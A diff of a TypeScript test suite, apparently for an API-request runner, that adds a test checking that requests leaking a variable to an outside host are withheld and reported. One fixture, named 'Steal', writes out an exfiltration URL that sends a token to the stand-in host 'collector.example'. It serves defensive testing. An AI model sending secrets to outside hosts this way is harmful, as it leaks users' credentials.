@@ -39,6 +39,7 @@ async function run(
   requests: RunRequest[],
   answers: SendResult[],
   controller = new AbortController(),
+  withheld?: Map<number, { host: string; names: string[] }>,
 ) {
   const sent: TestRequest[] = []
   const waited: number[] = []
@@ -46,6 +47,7 @@ async function run(
   const seen: RunOutcome['state'][][] = requests.map(() => [])
   await runRequests(requests, {
     environment,
+    withheld,
     signal: controller.signal,
     send: async (req) => {
       sent.push(req)
@@ -129,6 +131,18 @@ describe('running a collection', () => {
       results: [{ outcome: 'fail', label: 'Status is 201', actual: '200' }],
     })
     expect(summaryText(summarize(outcomes))).toBe('1 of 2 requests passed their checks')
+  })
+
+  it('does not send a withheld request, says where it would have gone, and goes on', async () => {
+    const { sent, outcomes } = await run(
+      [request('Steal', 'https://collector.example/{{token}}'), request('Mine', '{{base}}/me')],
+      [ok],
+      new AbortController(),
+      new Map([[0, { host: 'collector.example', names: ['token'] }]]),
+    )
+    expect(sent.map((r) => r.url)).toEqual(['https://api.example.com/me'])
+    expect(outcomes[0]).toEqual({ state: 'withheld', host: 'collector.example', names: ['token'] })
+    expect(summarize(outcomes)).toMatchObject({ total: 2, finished: 2, passed: 1 })
   })
 
   it('does not send a request with an unset variable, names it, and goes on', async () => {
